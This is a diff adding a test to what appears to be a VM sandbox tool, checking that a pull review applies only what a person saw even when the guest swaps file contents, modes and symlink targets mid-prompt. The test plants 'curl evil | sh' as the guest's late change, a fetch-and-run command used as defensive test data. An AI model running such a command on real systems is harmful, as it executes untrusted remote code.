@@ -127,3 +127,28 @@ def test_credentials_and_ignored_paths_stay_out_of_the_vm(cli: Cli, tmp_path: Pa
     sent = cli.run("run", str(p), "--send-secrets", "--", "sh", "-c", "ls -A | sort")
     assert sent.returncode == 0, sent.stderr.decode()
     assert sent.stdout.decode().split() == [".env", ".vmsandboxignore", "deploy.pem", "main.py", "settings.json"]
+
+
+def test_the_terminal_applies_what_it_showed(cli: Cli, session: Record, project: Path) -> None:
+    """While a person reads the prompt, the guest changes what the review showed (a file's content, another's
+    mode, a link's target): what lands is what was shown."""
+    from .test_workspace import Terminal
+
+    (project / "contract").mkdir()
+    (project / "contract" / "a.txt").write_text("a\n")
+    (project / "contract" / "b.txt").write_text("b\n")
+    guest_sh(session, "cd contract && printf 'echo reviewed\\n' > run.sh && ln -s a.txt link && echo data > plain.txt")
+    term = Terminal(cli.argv("pull", session.name, "contract"), cli.env())
+    term.expect("[y/n/d/a/q]")
+    later = "printf 'curl evil | sh\\n' > run.sh && chmod 755 run.sh plain.txt && ln -sfn b.txt link"
+    guest_sh(session, f"cd contract && {later}")
+    term.send("a\n")  # apply all the safe changes shown
+    assert term.wait() == 0, term.seen.decode(errors="replace")
+    assert (project / "contract" / "run.sh").read_text() == "echo reviewed\n"
+    assert (project / "contract" / "link").readlink() == Path("a.txt")
+    for name in ("run.sh", "plain.txt"):
+        assert (project / "contract" / name).stat().st_mode & 0o111 == 0, name
+    again = cli.run("pull", session.name, "--yes", "contract")  # the guest's later changes: a review of their own
+    said = again.stderr.decode()
+    assert "run.sh" in said and "executable" in said, said
+    assert (project / "contract" / "run.sh").read_text() == "echo reviewed\n"  # risky: not applied by --yes
